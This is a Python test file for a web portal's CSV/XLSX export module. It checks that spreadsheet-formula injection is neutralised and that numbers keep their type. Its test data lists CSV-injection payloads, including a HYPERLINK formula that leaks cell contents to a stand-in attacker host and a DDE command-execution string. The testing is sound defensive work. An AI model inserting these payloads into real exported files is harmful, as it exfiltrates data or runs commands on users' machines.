"""The one CSV/XLSX writer: text a visitor typed never runs as a formula in a spreadsheet, numbers stay numbers."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal import exportar

MALICIOSOS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("texto", MALICIOSOS)
def test_el_texto_que_empieza_como_formula_lleva_apostrofo(texto):
    assert exportar.texto_seguro(texto) == "'" + texto
    assert exportar.celda_csv(texto) == "'" + texto


def test_los_numeros_siguen_siendo_numeros():
    assert exportar.celda_csv(-3) == "-3"
    assert exportar.celda_csv(Decimal("-2.5"), coma_decimal=True) == "-2,5"
    assert exportar.celda_csv(None) == "" and exportar.celda_csv("Bien") == "Bien"


def test_csv_neutraliza_formulas():
    respuesta = exportar.respuesta_csv("x.csv", ["Texto", "Número"], [[t, -1] for t in MALICIOSOS])
    assert respuesta["Content-Disposition"] == 'attachment; filename="x.csv"'
    filas = list(csv.reader(io.StringIO(respuesta.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [f[0] for f in filas[1:]] == ["'" + t for t in MALICIOSOS]
    assert {f[1] for f in filas[1:]} == {"-1"}


def test_xlsx_escribe_el_texto_como_texto_nunca_como_formula():
    hoja = exportar.Hoja("Respuestas", ["Texto", "Número"], [[t, -1.5] for t in MALICIOSOS])
    contenido = exportar.respuesta_xlsx("x.xlsx", [hoja]).content
    with zipfile.ZipFile(io.BytesIO(contenido)) as archivo:
        xml = archivo.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    libro = load_workbook(io.BytesIO(contenido))
    celdas = list(libro["Respuestas"].iter_rows(min_row=2, values_only=True))
    # Depending on openpyxl's XML writer (lxml installed or not) a carriage return reads back as a line feed;
    # the apostrophe in front is what matters.
    assert [c[0].replace("\r", "\n") for c in celdas] == ["'" + t.replace("\r", "\n") for t in MALICIOSOS]
    assert all(c[1] == -1.5 for c in celdas)
